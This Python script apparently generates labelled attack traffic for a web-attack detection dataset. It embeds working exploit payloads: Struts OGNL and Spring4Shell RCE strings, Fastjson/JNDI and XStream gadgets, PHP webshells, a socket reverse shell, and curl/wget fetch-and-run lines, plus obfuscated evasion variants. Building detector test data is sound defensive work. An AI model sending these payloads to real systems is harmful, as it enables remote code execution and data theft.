    ("channel", "mobile"),
    ("dryRun", False),
    ("version", 3),
    ("tenant", "acme-prod"),
]
DEEP_KEYS = [
    "data",
    "attributes",
    "settings",
    "profile",
    "preferences",
    "notifications",
    "channels",
    "email",
    "templates",
    "custom",
    "meta",
    "payload",
    "config",
    "rules",
    "conditions",
    "actions",
    "params",
    "context",
    "extra",
    "options",
    "overrides",
    "layout",
]
ENC_KEYS = [
    "safe",
    "force",
    "lower",
    "latin1",
    "plus",
    "uesc",
    "slash",
    "upper",
    "charref",
    "dec",
    "qsafe",
    "jcompact",
    "fplus",
]


def deep_wrap(inner, n):
    keys = R.sample(DEEP_KEYS, n)
    doc = inner
    for k in reversed(keys):
        doc = {k: doc}
    return doc


def default_xml(param):
    roots = [
        ('<?xml version="1.0" encoding="UTF-8"?>\n<request><%s>%s</%s><requestId>%s</requestId></request>', 1),
        (
            '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:ns="urn:svc:v2">'
            "<soapenv:Header/><soapenv:Body><ns:Submit><ns:%s>%s</ns:%s><ns:ref>%s</ns:ref></ns:Submit>"
            "</soapenv:Body></soapenv:Envelope>",
            2,
        ),
        ('<?xml version="1.0"?>\n<update><item id="%s"><%s>%s</%s></item></update>', 3),
    ]
    t, kind = R.choice(roots)
    if kind == 3:
        return t % (rdigits(5), param, MARK, param)
    return t % (param, MARK, param, ruuid() if kind == 1 else rdigits(8))


def attack_spec(cat, placement, o):
    ep = o.get("ep") or R.choice(EPS[cat])
    host, epath, params = ep
    host = o.get("host", host)
    epath = o.get("epath", epath)
    param = o.get("param") or R.choice(params)
    client = o.get("client")
    if client is None:
        client = "api" if placement in ("json", "json_key", "xml") else R.choice(["browser", "api"])
    ua, accept = pick_client(client)
    sp = {"host": host, "ua": ua, "accept": accept, "path": epath}
    for k in ENC_KEYS:
        if k in o:
            sp[k] = o[k]
    hdrs = list(o.get("hdrs", []))
    if client == "browser" and R.random() < 0.6:
        hdrs.append(("Accept-Language", R.choice(LANGS)))
    if client == "api" and R.random() < 0.35:
        hdrs.append(
            ("Authorization", "Bearer " + fake_jwt({"sub": rdigits(6), "iat": 1733600000 + R.randint(0, 999999)}))
        )
    sp["hdrs"] = hdrs
    if o.get("cookies"):
        sp["cookies"] = o["cookies"]
    fill = [kv for kv in R.sample(FILLQ, R.randint(0, 2)) if kv[0] != param]
    if placement in ("query", "query_key", "path", "header", "cookie"):
        sp["method"] = o.get("method", "GET")
    elif placement in ("json", "json_key"):
        sp["method"] = o.get("method", R.choice(["POST", "POST", "PUT", "PATCH"]))
    else:
        sp["method"] = o.get("method", "POST")
    if "q" in o:
        sp["q"] = o["q"]
    if placement == "query":
        q = list(fill)
        q.insert(R.randint(0, len(q)), (param, MARK))
        sp["q"] = o.get("q", q)
    elif placement == "query_key":
        q = list(fill)
        q.insert(R.randint(0, len(q)), (MARK, None if o.get("noeq") else o.get("value", "1")))
        sp["q"] = o.get("q", q)
    elif placement == "path":
        sp["path"] = o.get("prefix", epath.rstrip("/") + "/") + MARK + o.get("suffix", "")
    elif placement in ("json", "json_key"):
        if "doc" in o:
            doc = o["doc"]
        else:
            extras = dict(R.sample(EXTRA_JSON, R.randint(1, 3)))
            if placement == "json":
                inner = {param: MARK}
            else:
                inner = {MARK: o.get("value", True)}
                if R.random() < 0.5:
                    inner = {R.choice(["filters", "fields", "attributes", "mapping"]): inner}
            if o.get("deep"):
                inner = deep_wrap(inner, o["deep"])
            doc = dict(extras)
            doc.update(inner)
            if R.random() < 0.5:
                doc["requestId"] = ruuid()
        sp["json"] = doc
    elif placement == "form":
        if "form" in o:
            pairs = o["form"]
        else:
            pairs = [(MARK, o.get("value", "1"))] if o.get("key") else [(param, MARK)]
            extra = R.sample(
                [
                    ("csrf_token", rhex(32)),
                    ("submit", "Save"),
                    ("remember", "on"),
                    ("step", "2"),
                    ("_method", "PUT"),
                    ("returnTo", "/dashboard"),
                ],
                R.randint(1, 2),
            )
            pairs = extra[:1] + pairs + extra[1:]
        sp["form"] = pairs
    elif placement == "header":
        sp["hname"] = o["name"]
    elif placement == "cookie":
        cn = o.get("cname", param)
        sp["cookies"] = (
            [("sid", ralnum(26)), (cn, MARK)]
            if R.random() < 0.5
            else [(cn, MARK), ("_ga", "GA1.2.%s.%s" % (rdigits(9), rdigits(10))), ("sid", rhex(32))]
        )
    elif placement == "multipart":
        mode = o.get("mode", "field")
        fname = o.get("filename", "upload.bin")
        fct = o.get("fct", "application/octet-stream")
        if mode == "field":
            parts = [("title", None, None, o.get("title", "Q3 update")), (param, None, None, MARK)]
        elif mode == "name":
            parts = [("title", None, None, "draft"), (MARK, None, None, o.get("value", "1"))]
        elif mode == "file":
            parts = [
                ("description", None, None, o.get("title", "attachment")),
                (o.get("field", "file"), fname, fct, MARK),
            ]
        else:
            parts = [(o.get("field", "file"), MARK, fct, o.get("content", "GIF89a"))]
        if "mp" in o:
            parts = o["mp"]
        sp["mp"] = parts
    elif placement == "xml":
        if o.get("doc"):
            sp["xml"] = None
        else:
            sp["xml"] = o["tpl"] if "tpl" in o else default_xml(param)
        if "xctype" in o:
            sp["ctype"] = o["xctype"]
    if "body" in o:
        sp["body"] = o["body"]
        sp["ctype"] = o.get("ctype", "application/x-www-form-urlencoded")
    if "ctype" in o and placement not in ("xml",):
        sp["ctype"] = o["ctype"]
    return sp


def trim(entries, n):
    """Drop surplus entries, always from the most frequent placement (last one first), to keep placements diverse."""
    entries = list(entries)
    while len(entries) > n:
        counts = {}
        for pl, _, _ in entries:
            counts[pl] = counts.get(pl, 0) + 1
        top = max(counts.values())
        victim = max(i for i, e in enumerate(entries) if counts[e[0]] == top)
        del entries[victim]
    return entries


def gen_attacks(cat, normal, hard):
    assert len(normal) >= 30 and len(hard) >= 20, (cat, len(normal), len(hard))
    entries = [(e, False) for e in trim(normal, 30)] + [(e, True) for e in trim(hard, 20)]
    R.shuffle(entries)
    seen = set()
    for i, ((placement, tpl, topts), hd) in enumerate(entries, 1):
        for _ in range(20):
            ctx = new_ctx()
            payload = expand(tpl, ctx)
            key = payload if isinstance(payload, str) else compact(payload)
            if key not in seen:
                break
        assert key not in seen, (cat, key)
        seen.add(key)
        o = expand(topts, ctx)
        sp = attack_spec(cat, placement, o)
        add_row("attack", cat, placement, payload, sp, hd, i)


# =================================================================== java
EP_STRUTS = ("portal.harborfirst-bank.com", "/struts/account/statement.action", ["accountId", "name", "redirect"])
EP_RULES = ("app.taskgrid.io", "/api/v2/rules/evaluate", ["expression", "condition", "filter"])
EP_FACES = ("shop.northwind-outfitters.com", "/faces/search.xhtml", ["q", "term", "sort"])
EP_WIKI = ("wiki.meridian-logistics.com", "/", ["x"])
EP_JENKINS = ("ci.ledgerline.io", "/script", ["script"])
SPRING4SHELL = "class.module.classLoader.resources.context.parent.pipeline.first."
S4S_PATTERN = (
    '%{c2}i if("j".equals(request.getParameter("pwd"))){ java.io.InputStream in = %{c1}i.getRuntime()'
    '.exec(request.getParameter("cmd")).getInputStream(); int a = -1; byte[] b = new byte[2048]; '
    "while((a=in.read(b))!=-1){ out.println(new String(b)); } } %{suffix}i"
)
S2_045 = (
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
    "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
    "(#context.setMemberAccess(#dm)))).(#cmd='{C}').(#iswin=(@java.lang.System@getProperty('os.name')"
    ".toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd}))."
    "(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start())."
    "(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
    "(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"
)
S2_046_FN = (
    "%{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?"
    "(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    "(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
    "(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear())."
    "(#context.setMemberAccess(#dm)))).(#cmd='{C}').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd}))."
    "(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@copy("
    "#process.getInputStream(),@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))}\x00b"
)
XSTREAM = (
    "<sorted-set>\n  <string>foo</string>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n"
    '    <handler class="java.beans.EventHandler">\n      <target class="java.lang.ProcessBuilder">\n'
    "        <command>\n          <string>/bin/sh</string>\n          <string>-c</string>\n"
    "          <string>{SC}</string>\n        </command>\n      </target>\n"
    "      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>"
)
XSTREAM_REF = (
    "<sorted-set><string>a</string><dynamic-proxy><interface>java.lang.&#x43;omparable</interface>"
    '<handler class="java.beans.&#x45;ventHandler"><target class="java.lang.&#80;rocess&#66;uilder">'
    "<command><string>/bin/&#x73;h</string><string>-c</string><string>&#x63;url http://{H}/x|s&#x68;</string>"
    "</command></target><action>st&#x61;rt</action></handler></dynamic-proxy></sorted-set>"
)
WLS_XMLDEC = (
    '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">\n<soapenv:Header>\n'
    '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">\n'
    '<java version="1.8.0_151" class="java.beans.XMLDecoder">\n<void class="java.lang.ProcessBuilder">\n'
    '<array class="java.lang.String" length="3">\n<void index="0"><string>/bin/bash</string></void>\n'
    '<void index="1"><string>-c</string></void>\n<void index="2"><string>{SC}</string></void>\n'
    '</array>\n<void method="start"/></void>\n</java>\n</work:WorkContext>\n</soapenv:Header>\n'
    "<soapenv:Body/>\n</soapenv:Envelope>"
)
XMLDEC_REF = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<java class="java.beans.XMLDecoder"><object class="java.lang.&#x52;untime" '
    'method="getRuntime"><void method="&#x65;&#x78;&#x65;&#x63;"><array class="java.lang.String" length="3">'
    '<void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void>'
    '<void index="2"><string>wget -qO- http://{H}/i&#x7c;sh</string></void></array></void></object></java>'
)
CONF_OGNL = (
    '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("{C}").getInputStream(),"utf-8"))'
    '.(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}'
)
S2_057 = (
    "${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context)."
    "(#cr=#ct['com.opensymphony.xwork2.ActionContext.container']).(#ou=#cr.getInstance("
    "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear())."
    "(#ou.getExcludedClasses().clear()).(#ct.setMemberAccess(#dm)).(#a=@java.lang.Runtime@getRuntime()"
    ".exec('{C}')).(@org.apache.commons.io.IOUtils@toString(#a.getInputStream()))}"
)
S2_032 = (
    "method:#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#res=@org.apache.struts2.ServletActionContext"
    "@getResponse(),#res.setCharacterEncoding(#parameters.enc[0]),#w=#res.getWriter(),#s=new java.util.Scanner("
    "@java.lang.Runtime@getRuntime().exec(#parameters.cmd[0]).getInputStream()).useDelimiter(#parameters.pp[0]),"
    "#str=#s.hasNext()?#s.next():#parameters.ppp[0],#w.print(#str),#w.close(),1?#xx:#request.toString"
)
S2_001 = (
    '%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"sh","-c","{C}"})).redirectErrorStream(true).start(),'
    "#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),"
    '#e=new char[50000],#d.read(#e),#f=#context.get("com.opensymphony.xwork2.dispatcher.HttpServletResponse"),'
    "#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush(),#f.getWriter().close()}"
)
URLDNS_A = java_urldns("j8d2q.oast.fun")
URLDNS_B = java_urldns("jsf-vs.k3x9q1.interact.sh")
URLDNS_C = java_urldns("sess.a1b2c3d4.burpcollaborator.net")
LONG_RULE_TEXT = (
    "Seasonal pricing rule for the spring catalogue refresh. Applies to all SKUs in the outdoor, "
    "garden and patio departments when the customer segment is loyalty-gold or loyalty-platinum and "
    "the basket subtotal exceeds the configured threshold. Finance approved the margin impact on the "
    "weekly sync; marketing will announce it in the newsletter. Rollback plan: disable the flag. "
)

JAVA_NORMAL = [
    QK(
        'redirect:${#context["xwork.MethodAccessor.denyMethodExecution"]=false,#f=#_memberAccess.getClass()'
        '.getDeclaredField("allowStaticMethodAccess"),#f.setAccessible(true),#f.set(#_memberAccess,true),'
        '@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("{C}").getInputStream())}',
        noeq=True,
        ep=EP_STRUTS,
    ),
    H(S2_045, "Content-Type", method="POST", ep=EP_STRUTS),
    FK(SPRING4SHELL + "pattern", value=S4S_PATTERN, epath="/app/greeting"),
    F(
        S4S_PATTERN,
        epath="/petclinic/owners",
        form=[
            (SPRING4SHELL + "pattern", MARK),
            (SPRING4SHELL + "suffix", ".jsp"),
            (SPRING4SHELL + "directory", "webapps/ROOT"),
            (SPRING4SHELL + "prefix", "shell"),
            (SPRING4SHELL + "fileDateFormat", ""),
        ],
        hdrs=[("suffix", "%>//"), ("c1", "Runtime"), ("c2", "<%")],
    ),
    QK(SPRING4SHELL + "fileDateFormat", value="", epath="/app/greeting"),
    FK(SPRING4SHELL + "directory", value="webapps/ROOT", epath="/api/profile"),
    H(
        'T(java.lang.Runtime).getRuntime().exec("{C}")',
        "spring.cloud.function.routing-expression",
        method="POST",
        epath="/functionRouter",
    ),
    J(
        "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime()"
        '.exec(new String[]{"{C}"}).getInputStream()))}',
        method="POST",
        epath="/actuator/gateway/routes/hacktest",
        doc={
            "id": "hacktest",
            "filters": [{"name": "AddResponseHeader", "args": {"name": "Result", "value": MARK}}],
            "uri": "http://example.com",
        },
    ),
    Q("T(java.lang.Runtime).getRuntime().exec('{C}')", ep=EP_RULES),
    Q("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{C}')}", ep=EP_FACES),
    J(
        "${pageContext.servletContext.classLoader.loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('{C}')}"
    ),
    J(
        {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://{H}:1389/Exploit", "autoCommit": True},
        param="profile",
    ),
    J(
        {
            "a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
            "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://{H}:1099/Obj", "autoCommit": True},
        },
        param="data",
    ),
    J(
        [
            "ch.qos.logback.core.db.DriverManagerConnectionSource",
            {"url": "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://{H}/inject.sql'"},
        ],
        param="payment",
    ),
    J(["org.springframework.context.support.ClassPathXmlApplicationContext", "http://{H}/spel.xml"], param="config"),
    XD(XSTREAM, epath="/api/v1/shipments/import", xctype="application/xml"),
    XD(WLS_XMLDEC, ep=("erp.meridian-logistics.com", "/wls-wsat/CoordinatorPortType", ["x"]), xctype="text/xml"),
    M(
        '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://{H}/yaml-payload.jar"]]]]',
        mode="file",
        filename="application.yml",
        fct="application/x-yaml",
        field="config",
    ),
    J(
        "jdbc:h2:mem:testdb;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE ALIAS EXEC AS 'String shellexec(String cmd) throws "
        "java.io.IOException {Runtime.getRuntime().exec(cmd);return \"ok\";}'\\;CALL EXEC ('{C}')",
        param="jdbcUrl",
        epath="/api/v1/connectors/test",
    ),
    J(
        "zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\;CREATE TRIGGER PWNED BEFORE "
        "SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\njava.lang.Runtime.getRuntime().exec('{C}')\n$$--=x",
        ep=("bi.ledgerline.io", "/api/setup/validate", ["db"]),
        method="POST",
        doc={
            "token": "5b6c1f0e-9d55-4c8e-9a3f-2a1d6f0e4c77",
            "details": {
                "is_on_demand": False,
                "is_full_sync": False,
                "is_sample": False,
                "cache_ttl": None,
                "refingerprint": False,
                "auto_run_queries": True,
                "schedules": {},
                "details": {"db": MARK, "advanced-options": False, "ssl": True},
                "name": "warehouse",
                "engine": "h2",
            },
        },
    ),
    J(
        "CREATE ALIAS EXEC AS CONCAT('String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new',"
        "' java.util.Scanner(Runtime.getRun','time().exec(cmd).getInputStream()); if (s.hasNextLine()) {return s.nextLine();}"
        " return null;}');CALL EXEC('{C}');",
        method="POST",
        epath="/actuator/env",
        doc={"name": "spring.datasource.hikari.connection-test-query", "value": MARK},
    ),
    PA(CONF_OGNL, ep=EP_WIKI, prefix="/", suffix="/", safe="@().,#"),
    PA(S2_057, prefix="/struts2-showcase/", suffix="/actionChain1.action", safe="@()=.,#'[]"),
    FK(
        'username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("{C}")]',
        value="hacker",
        epath="/users",
    ),
    Q("${script:javascript:java.lang.Runtime.getRuntime().exec('{C}')}", ep=EP_RULES, param="template"),
    F(
        'println "{C}".execute().text',
        ep=EP_JENKINS,
        form=[("script", MARK), ("Jenkins-Crumb", "4f6c0e9b1a2d3c4e5f60718293a4b5c6"), ("Submit", "Run")],
    ),
    J("''.class.forName('java.lang.Runtime').getRuntime().exec('{C}')", ep=EP_RULES, param="condition"),
    J('Runtime.getRuntime().exec("{C}");', ep=EP_RULES, param="action"),
    Q('var pb=new java.lang.ProcessBuilder("sh","-c","{SC}");pb.start();', ep=EP_RULES, param="script"),
    F(
        "throw new Exception('{C}'.execute().text);",
        ep=("erp.meridian-logistics.com", "/webtools/control/ProgramExport/", ["groovyProgram"]),
        form=[("groovyProgram", MARK)],
        q=[("USERNAME", ""), ("PASSWORD", ""), ("requirePasswordChange", "Y")],
    ),
    M(S2_046_FN, mode="filename", ep=EP_STRUTS, fct="text/plain", content="x"),
    X(
        '${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("JavaScript")'
        ".eval(\"java.lang.Runtime.getRuntime().exec('{C}')\")}",
        param="displayName",
    ),
    J({"@class": "org.apache.xbean.propertyeditor.JndiConverter", "asText": "ldap://{H}/obj"}, param="settings"),
    QK(S2_032, ep=EP_STRUTS, q=[(MARK, ""), ("enc", "UTF-8"), ("cmd", "{C}"), ("pp", "\\A"), ("ppp", " ")]),
    F(S2_001, ep=EP_STRUTS, param="name"),
    C('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://{H}/cookie","autoCommit":true}]', cname="prefs"),
]

JAVA_HARD = [
    QK(
        r"('\u0023_memberAccess[\'allowStaticMethodAccess\']\u003dtrue,\u0023rt\u003d@java.lang.Runtime@getRuntime(),"
        r"\u0023rt.exec(\'{C}\'))(aa)(bb)",
        value="",
        ep=EP_STRUTS,
    ),
    C(b64(URLDNS_A), cname="rememberState"),
    F(
        b64(gzip.compress(URLDNS_B, mtime=0)),
        ep=EP_FACES,
        form=[("searchForm", "searchForm"), ("searchForm:q", "boots"), ("javax.faces.ViewState", MARK)],
    ),
    J(
        {
            "@type": "com.sun.rowset.JdbcRowSetImpl",
            "dataSourceName": "ldap://{H}:1389/Basic/TomcatEcho",
            "autoCommit": True,
        },
        uesc="@",
        param="user",
    ),
    J(
        {"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": "ldap://{H}/L1", "autoCommit": True},
        param="address",
    ),
    J(
        {"@type": "LLcom.sun.rowset.JdbcRowSetImpl;;", "dataSourceName": "rmi://{H}/LL", "autoCommit": True},
        uesc="@LJR",
        param="meta",
    ),
    H(
        "T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(105).concat(T(java.lang.Character).toString(100)))",
        "spring.cloud.function.routing-expression",
        method="POST",
        epath="/functionRouter",
    ),
    Q(
        'T(String).getClass().forName("java.l"+"ang.Ru"+"ntime").getMethod("ex"+"ec",T(String)).invoke(T(String).getClass()'
        '.forName("java.l"+"ang.Ru"+"ntime").getMethod("getRu"+"ntime").invoke(T(String).getClass().forName("java.l"+"ang.Ru"'
        '+"ntime")),"{C}")',
        ep=EP_RULES,
    ),
    J(
        '${"".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("js")'
        '.eval("java.lang.Runtime.getRuntime().exec(String.fromCharCode(105,100))")}',
        uesc="$(){}",
    ),
    FK(SPRING4SHELL + "suffix", value=".jsp", force=".", epath="/app/greeting"),
    Q("${ScRiPt:JavaScript:java.lang.Runtime.getRuntime().exec('{C}')}", ep=EP_RULES, param="template", force="ALL"),
    J(
        "${script:javascript:java.lang.Runtime.getRuntime().exec(new java.lang.String(java.util.Base64.getDecoder()"
        ".decode('" + b64("touch /tmp/t4s") + "')))}",
        param="subject",
    ),
    PA('${@java.lang.Runtime@getRuntime().exec("{C}")}', ep=EP_WIKI, prefix="/", suffix="/", force="ALL"),
    XD(XSTREAM_REF, epath="/api/v1/shipments/import", xctype="application/xml"),
    XD(XMLDEC_REF, ep=("erp.meridian-logistics.com", "/wls-wsat/RegistrationPortTypeRPC", ["x"]), xctype="text/xml"),
    J(
        "!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!<tag:yaml.org,2002:java.net.URLClassLoader> "
        '[[!<tag:yaml.org,2002:java.net.URL> ["http://{H}/p.jar"]]]]',
        param="yamlConfig",
    ),
    F(
        r"\u0027+#request\u005b\u0027.KEY_velocity.struts2.context\u0027\u005d.internalGet(\u0027ognl\u0027)"
        r".findValue(#parameters.x,{})+\u0027",
        ep=EP_WIKI,
        epath="/template/aui/text-inline.vm",
        form=[
            ("label", MARK),
            (
                "x",
                "@org.apache.struts2.ServletActionContext@getResponse().setHeader('X-Cmd-Response',"
                '(new freemarker.template.utility.Execute()).exec({"{C}"}))',
            ),
        ],
    ),
    F('def c="i"+"d";def o=c.execute().text;println o', ep=EP_JENKINS, form=[("script", MARK), ("Submit", "Run")]),
    Q("T (java . lang . Runtime) . getRuntime () . exec ('{C}')", ep=EP_RULES, param="sortExpr"),
    J("#{T(java.lang.Runtime).getRuntime().exec('{C}')}", deep=11, param="expression"),
    J(LONG_RULE_TEXT + "#{T(java.lang.Runtime).getRuntime().exec('{C}')}", ep=EP_RULES, param="description"),
    QK(
        "redirect:${#a=new java.lang.ProcessBuilder(new java.lang.String[]{'sh','-c','{C}'}).start()}",
        noeq=True,
        force="ALL",
        ep=EP_STRUTS,
    ),
    C(
        b64('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://t.kr4ken.ru:389/c","autoCommit":true}'),
        cname="cart",
    ),
    M(b64(URLDNS_C), mode="field", param="session_blob"),
]


# =================================================================== php
EP_PHP = ("www.lumenhome.store", "/index.php", ["page", "action", "code", "cb"])
EP_TP = ("b2b.cartwheel-market.com", "/index.php", ["s"])
EP_CRM = ("crm.ledgerline.io", "/admin/settings.php", ["site_name", "timezone", "footer"])
EP_FORUM = ("forum.quadrant-academy.edu", "/index.php", ["x"])
EP_XMLRPC = ("blog.chirpnest.social", "/xmlrpc.php", ["x"])
PEND = "Illuminate\\Broadcasting\\PendingBroadcast"
FAKER = "Faker\\Generator"
LARAVEL_CHAIN = php_ser(
    (
        "O",
        PEND,
        [
            (prot(PEND, "events"), ("O", FAKER, [(prot(FAKER, "formatters"), {"dispatch": "system"})])),
            (prot(PEND, "event"), "id"),
        ],
    )
)
LARAVEL_CHAIN2 = php_ser(
    (
        "O",
        PEND,
        [
            (prot(PEND, "events"), ("O", FAKER, [(prot(FAKER, "formatters"), {"dispatch": "passthru"})])),
            (prot(PEND, "event"), "cat /etc/passwd"),
        ],
    )
)
PHP_NOT = (
    '$f=~"'
    + "".join(chr(255 - ord(c)) for c in "system")
    + '";$f(~"'
    + "".join(chr(255 - ord(c)) for c in "id")
    + '");'
)

PHP_NORMAL = [
    Q("1;system('{C}');//", ep=EP_PHP, param="calc"),
    Q("print_r(scandir('/var/www/html'));", ep=EP_PHP, param="code"),
    Q("${@system($_GET[c])}", ep=EP_PHP, q=[("expr", MARK), ("c", "{C}")]),
    Q("\".system('{C}').\"", param="format"),
    Q("';passthru('{C}');$a='", param="filter"),
    F("<?php system($_REQUEST['c']); ?>", ep=EP_CRM, param="footer"),
    M("<?php @eval($_POST['x']);?>", mode="file", filename="avatar.php", fct="image/jpeg", field="avatar"),
    M(
        "GIF89a;\n<?php echo shell_exec($_GET['c']); ?>",
        mode="file",
        filename="banner.phtml",
        fct="image/gif",
        field="banner",
    ),
    C(php_fnstream("phpinfo"), cname="cart_state"),
    C(php_monolog("id"), cname="prefs"),
    Q("phar://uploads/avatars/1337.jpg/test.txt", param="file", ep=EP_PHP),
    Q("' and die(system('{C}')) or '", ep=EP_PHP, param="page"),
    Q(
        "/Index/\\think\\app/invokefunction",
        ep=EP_TP,
        q=[("s", MARK), ("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "{C}")],
    ),
    FK(
        "mail[#post_render][]",
        epath="/user/register",
        ep=("www.quadrant-academy.edu", "/user/register", ["x"]),
        form=[
            ("form_id", "user_register_form"),
            ("_drupal_ajax", "1"),
            (MARK, "exec"),
            ("mail[#type]", "markup"),
            ("mail[#markup]", "{C}"),
        ],
        q=[("element_parents", "account/mail/#value"), ("ajax_form", "1"), ("_wrapper_format", "drupal_ajax")],
    ),
    F(
        "echo shell_exec('{C}'); exit;",
        ep=EP_FORUM,
        form=[("routestring", "ajax/render/widget_php"), ("widgetConfig[code]", MARK)],
    ),
    F("<?=`{C}`?>", param="signature", ep=("forum.quadrant-academy.edu", "/profile.php", ["signature"])),
    QK(
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        noeq=True,
        plus=True,
        method="POST",
        ep=("hub.thermacore-hub.net", "/index.php", ["x"]),
        body="<?=system('id');die()?>",
    ),
    H("<?php system($_GET['c']); ?>", "User-Agent", ep=EP_PHP),
    H("<?php eval($_SERVER['HTTP_X_CMD']);?>", "X-Forwarded-For"),
    C("<?php phpinfo();?>", cname="lang_pref"),
    XD(
        "<?xml version=\"1.0\"?>\n<methodCall><methodName>test.method</methodName><params><param><value><name>','')); "
        "system('{C}'); exit;/*</name></value></param></params></methodCall>",
        ep=EP_XMLRPC,
        xctype="text/xml",
    ),
    X("<?php system('{C}'); ?>", param="description", epath="/feeds/import.php"),
    J(
        "phar://../storage/logs/laravel.log",
        ep=("app.ledgerline.io", "/_ignition/execute-solution", ["x"]),
        method="POST",
        doc={
            "solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
            "parameters": {"variableName": "username", "viewFile": MARK},
        },
    ),
    JK("site_name'];system($_GET['c']);//", ep=EP_CRM, value="My Shop"),
    J("array_map('system',['{C}']);", param="expr", ep=("app.ledgerline.io", "/api/report/calc.php", ["expr"])),
    Q("call_user_func('system','{C}');", param="hook"),
    PA(
        "index/\\think\\app/invokefunction",
        ep=EP_TP,
        prefix="/index.php/",
        q=[("function", "call_user_func_array"), ("vars[0]", "system"), ("vars[1][]", "{C}")],
    ),
    F("1);system('{C}');//", param="sort_cb"),
    M(
        "<?php $s=fsockopen('{H}',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>",
        mode="file",
        filename="theme.php",
        fct="application/x-php",
        field="theme_file",
    ),
    Q("file_put_contents('s.php','<?php system($_GET[0]);');", param="code", ep=EP_PHP),
    F(LARAVEL_CHAIN, param="data", ep=("app.ledgerline.io", "/import/session", ["data"])),
]

PHP_HARD = [
    Q("$a='sys'.'tem';$a('{C}');", param="code", ep=EP_PHP),
    Q('("sy"."stem")("{C}");', param="expr"),
    Q("(base64_decode('" + b64("system") + "'))('{C}');", param="cb"),
    F("eval(str_rot13('" + rot13("system('id');") + "'));", param="calc"),
    F("eval(gzinflate(base64_decode('" + b64(raw_deflate("system('uname -a');")) + "')));", param="code"),
    Q(php_xor("system") + "('id');", param="code", ep=EP_PHP),
    Q("system(hex2bin('" + "uname -a".encode().hex() + "'));", param="action"),
    Q(PHP_NOT, param="code", ep=EP_PHP, latin1=True),
    QK(
        "\u00add allow_url_include=1 \u00add auto_prepend_file=php://input",
        noeq=True,
        plus=True,
        latin1=True,
        method="POST",
        ep=("intranet.meridian-logistics.com", "/php-cgi/php-cgi.exe", ["x"]),
        body="<?=system('whoami')?>",
    ),
    C(b64(php_monolog("id")), cname="remember_cart"),
    C(php_fnstream("phpinfo").replace("O:24:", "O:+24:", 1), cname="wishlist"),
    Q("compress.zlib://phar:///var/www/html/uploads/avatars/9912.gif/x", param="file", ep=EP_PHP),
    J(
        "<?php system($_REQUEST['cmd']); ?>",
        uesc="<?>",
        param="custom_css",
